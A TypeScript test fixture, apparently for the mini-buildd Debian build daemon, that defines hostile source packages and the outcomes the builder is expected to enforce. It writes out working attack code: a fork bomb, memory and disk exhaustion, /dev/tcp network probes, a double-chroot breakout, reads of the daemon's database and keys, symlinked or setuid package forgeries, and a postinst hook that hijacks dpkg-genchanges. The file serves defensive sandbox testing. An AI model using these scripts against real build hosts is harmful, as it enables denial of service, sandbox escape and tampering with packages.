import type { SourcePackageOptions } from "#testing";

/** Where the daemon under attack is. */
export interface Target {
  readonly home: string;
  readonly httpPort: number;
  readonly pid: number;
}

/** A source package that wishes us no good, and what has to come of it. */
export interface Hostile {
  readonly name: string;
  /** What it tries. */
  readonly does: string;
  make(target: Target): Partial<SourcePackageOptions>;
  readonly state: "BUILT" | "FAILED";
  readonly reason: string | null;
  /** All that its people are told, one sentence. */
  readonly message: RegExp;
  /** What its log has to show: that it did try. */
  readonly logs?: RegExp;
}

/** Installed into the builds that name it: as root, in their chroot, before they begin. */
export const HELPER = "mbd-evil-helper";

/** Said by an attack that came through. */
export const BREACH = "MBD-BREACH";

const script = (...lines: readonly string[]) => `#!/bin/sh\n${lines.join("\n")}\n`;
const perl = (...lines: readonly string[]) => `#!/usr/bin/perl\nuse strict;\n${lines.join("\n")}\n`;
const attack = (text: string): Partial<SourcePackageOptions> => ({
  tree: { "debian/attack": text },
  build: ["debian/attack"],
});
/** Runs when the .changes is written, with its path; needs the helper. */
const forgery = (...lines: readonly string[]): Partial<SourcePackageOptions> => ({
  tree: { "debian/forge": script("set -e", "changes=$1", "deb=$(ls ../*.deb)", ...lines) },
  buildDepends: HELPER,
});
/** Makes the .changes list what is there under the name of the package now. */
const RESUM = `perl -MDigest::SHA -MDigest::MD5 -0777 -i -pe '
  my ($deb) = glob("../*.deb"); my ($name) = $deb =~ m{([^/]+)$};
  my $sha1 = Digest::SHA->new(1)->addfile($deb)->hexdigest; my $sha = Digest::SHA->new(256)->addfile($deb)->hexdigest;
  open(my $in, "<", $deb); my $md5 = Digest::MD5->new->addfile($in)->hexdigest; my $size = -s $deb;
  s/^ [0-9a-f]{40} [0-9]+ \\Q$name\\E$/ $sha1 $size $name/m; s/^ [0-9a-f]{64} [0-9]+ \\Q$name\\E$/ $sha $size $name/m;
  s/^ [0-9a-f]{32} [0-9]+ (\\S+ \\S+) \\Q$name\\E$/ $md5 $size $1 $name/m;' "$changes"`;

/** Ways out that code in a chroot could try; each that works is a breach. */
const waysOut = ({ home, pid }: Target) => [
  `try() { if "$@" >/dev/null 2>&1; then echo "${BREACH}: $*"; else echo "no way: $*"; fi; }`,
  // Looked for on the machine, later: what lies there may only look like the home.
  `touch ${home}/x ${home}/work/x 2>/dev/null || true`,
  `try touch /run/mini-buildd/x`,
  `try cat ${home}/mini-buildd.sqlite`,
  `try [ -e ${home}/mini-buildd.sqlite ]`,
  `try [ -e ${home}/store ]`,
  `try [ $(ls ${home}/work 2>/dev/null | wc -l) -gt 1 ]`,
  `try ls ${home}/gnupg`,
  `try ls ${home}/incoming`,
  "up=../../../../../../../..",
  "for way in /proc/[0-9]*/root /proc/[0-9]*/cwd/$up; do",
  `  try ls "$way${home}/store"; try cat "$way${home}/mini-buildd.sqlite"`,
  "done",
  `try kill -0 ${pid}`,
  "try dd if=/dev/vda of=/dev/null count=1",
  "try dd if=/dev/mem of=/dev/null count=1",
];

export const HOSTILE: readonly Hostile[] = [
  {
    name: "mbd-evil-bomb",
    does: "forks until nobody can",
    make: () =>
      attack(
        perl(
          "my $main = $$; my $end = time + 8;",
          "1 while defined fork;",
          'print "no more processes\\n" if $$ == $main;',
          "sleep 1 while time < $end;",
          "exit 1;",
        ),
      ),
    ...{ state: "FAILED", reason: "package", message: /^the package does not build \(stage build\)$/ },
    logs: /^no more processes$/m,
  },
  {
    name: "mbd-evil-memory",
    does: "eats all memory",
    make: () =>
      attack(perl('my @eaten; $| = 1; while (1) { push @eaten, "x" x 10_000_000; print "more\\n"; }')),
    ...{ state: "FAILED", reason: "memory_limit", message: /^ended: it needed more memory than allowed$/ },
    logs: /^more$/m,
  },
  {
    name: "mbd-evil-log",
    does: "prints without end",
    make: () => attack(script("yes 'and so on'")),
    ...{ state: "FAILED", reason: "log_limit", message: /^ended: its log became too large$/ },
    logs: /mini-buildd: the log has reached its limit of 2097152 bytes; the rest is dropped\.\n$/,
  },
  {
    name: "mbd-evil-stall",
    does: "waits for ever",
    make: () => attack(script("echo now I wait", "sleep 100000")),
    ...{ state: "FAILED", reason: "timeout_stalled", message: /^ended: it printed nothing for too long$/ },
    logs: /^now I wait$/m,
  },
  {
    name: "mbd-evil-file",
    does: "writes one file without end",
    make: () =>
      attack(script("dd if=/dev/zero of=fill bs=1M count=1000 status=none; echo ended with $?", "exit 1")),
    ...{ state: "FAILED", reason: "package", message: /^the package does not build \(stage build\)$/ },
    logs: /^ended with 1(?:53)?$/m,
  },
  {
    name: "mbd-evil-network",
    does: "wants the network",
    make: ({ httpPort }) =>
      attack(
        `#!/bin/bash
try() { if timeout 3 bash -c "exec 3<>/dev/tcp/$1" 2>/dev/null; then echo "${BREACH}: $1"; else echo "no way: $1"; fi; }
for address in 127.0.0.1/${httpPort} 127.0.0.1/22 127.0.0.1/53 192.0.2.1/80 1.1.1.1/53; do try $address; done
if getent hosts example.org; then echo "${BREACH}: names"; fi
`,
      ),
    ...{ state: "BUILT", reason: null, message: /^built$/ },
    logs: /^no way: 1\.1\.1\.1\/53$/m,
  },
  {
    name: "mbd-evil-escape",
    does: "looks for ways out of its chroot",
    make: (target) =>
      attack(
        script(
          ...waysOut(target),
          "try touch /etc/x",
          "try mount -t tmpfs none /mnt",
          "try mknod d c 1 3",
          "try unshare --user --map-root-user true",
          `try perl -e 'chroot "." or exit 1'`,
        ),
      ),
    ...{ state: "BUILT", reason: null, message: /^built$/ },
    logs: /^no way: perl -e chroot/m,
  },
  {
    name: "mbd-evil-root",
    does: "looks for ways out as root, by a build dependency",
    make: () => ({ buildDepends: HELPER }),
    ...{ state: "BUILT", reason: null, message: /^built$/ },
    logs: /^no way: cat .*mini-buildd\.sqlite$/m,
  },
  {
    name: "mbd-forge-source",
    does: "leaves the .changes of another package",
    make: () => forgery("sed -i 's/^Source: .*/Source: hello/' \"$changes\""),
    ...{
      state: "FAILED",
      reason: "result_invalid",
      message: /^\S+\.changes has Source "hello" instead of "mbd-/,
    },
  },
  {
    name: "mbd-forge-dots",
    does: "names a result outside of its directory",
    make: () => forgery('cp "$deb" ../.. || true', `sed -i 's# \\([^ ]*\\.deb\\)$# ../../\\1#' "$changes"`),
    ...{ state: "FAILED", reason: "result_invalid", message: /^[^\n]*\.\.\/[^\n]*$/ },
  },
  {
    name: "mbd-forge-link",
    does: "leaves a link to the daemon's database for a package",
    make: ({ home }) => forgery('rm "$deb"', `ln -s ${home}/mini-buildd.sqlite "$deb"`),
    ...{ state: "FAILED", reason: "result_invalid", message: /^\S+\.deb[^\n]*$/ },
  },
  {
    name: "mbd-forge-shadow",
    does: "leaves a link to a file of the chroot for a package",
    make: () => forgery('rm "$deb"', 'ln -s /etc/passwd "$deb"', RESUM),
    ...{ state: "FAILED", reason: "result_invalid", message: /^\S+\.deb[^\n]*$/ },
  },
  {
    name: "mbd-forge-endless",
    does: "leaves a link to a device without end for a package",
    make: () => forgery('rm "$deb"', 'ln -s /dev/zero "$deb"'),
    ...{ state: "FAILED", reason: "disk_limit", message: /^ended: it wrote a file larger than allowed$/ },
  },
  {
    name: "mbd-forge-other",
    does: "makes a package of another source beside its own",
    make: () => ({
      build: [
        "mkdir -p other/DEBIAN",
        "printf 'Package: hello\\nVersion: 99\\nArchitecture: all\\nMaintainer: A <a@example.org>\\nDescription: x\\n' >other/DEBIAN/control",
        "dpkg-deb --root-owner-group --build other ../hello_99_all.deb",
      ],
      pack: ["dpkg-distaddfile hello_99_all.deb misc optional"],
    }),
    ...{
      state: "FAILED",
      reason: "result_invalid",
      message: /^hello_99_all\.deb has Source "hello" instead of "mbd-/,
    },
  },
  {
    name: "mbd-forge-setuid",
    does: "leaves a package file that is setuid, with a setuid program in it",
    make: () => ({
      ...forgery('chmod 6755 "$deb"'),
      pack: ["install -m 6755 debian/copyright debian/tmp/usr/lib/mbd-forge-setuid/root"],
    }),
    ...{ state: "BUILT", reason: null, message: /^built$/ },
  },
  // Last: uploads are refused while the disk is that full.
  {
    name: "mbd-evil-disk",
    does: "fills the disk",
    make: () =>
      attack(
        script(
          "i=0",
          "while dd if=/dev/zero of=fill.$i bs=1M count=32 status=none; do",
          "  i=$((i+1)); echo filled $i; sleep 0.3",
          "done",
        ),
      ),
    ...{
      state: "FAILED",
      reason: "disk_limit",
      message: /^ended: the disk of the builder was nearly full and this was the/,
    },
    logs: /^filled 10$/m,
  },
];

/** Runs while another build fills the disk: ends as soon as it saw that, and room again. */
export const BESIDE: Partial<SourcePackageOptions> & { readonly name: string } = {
  name: "mbd-innocent-beside",
  ...attack(
    script(
      "free() { df --output=avail -BM . | tail -n 1 | tr -dc 0-9; }",
      "i=0",
      "until [ $(free) -lt 2048 ]; do i=$((i+1)); echo wait $i; [ $i -lt 600 ] || exit 1; sleep 1; done",
      "echo the disk is full",
      "until [ $(free) -gt 3072 ]; do i=$((i+1)); echo wait $i; [ $i -lt 600 ] || exit 1; sleep 1; done",
      "echo there is room again",
    ),
  ),
};

/** The helper: tries its ways out when it is installed, and lets a build forge its .changes. */
export function helperPackage(target: Target): Partial<SourcePackageOptions> & { readonly name: string } {
  const wrapper = script(
    'dpkg-genchanges.real "$@" || exit',
    "changes=",
    'for word in "$@"; do case $word in -O*) changes=$(echo "$word" | cut -c3-);; esac; done',
    '[ -z "$changes" ] || [ ! -x debian/forge ] || debian/forge "$changes"',
  );
  return {
    name: HELPER,
    tree: {
      "debian/wrapper": wrapper,
      "debian/out": script(...waysOut(target)),
      "debian/chroot-out": perl(
        'mkdir "/mbd-x"; chroot "/mbd-x" or die; chdir ".." for 1 .. 64; chroot "." or die;',
        'exec "/bin/sh", @ARGV;',
      ),
    },
    pack: [`install -m 755 debian/wrapper debian/out debian/chroot-out debian/tmp/usr/lib/${HELPER}/`],
    scripts: {
      postinst: [
        `cd /usr/lib/${HELPER}`,
        "mv /usr/bin/dpkg-genchanges /usr/bin/dpkg-genchanges.real",
        "cp wrapper /usr/bin/dpkg-genchanges",
        "./out || true",
        `./chroot-out -c "$(cat out)" || true`,
      ].join("\n"),
    },
  };
}
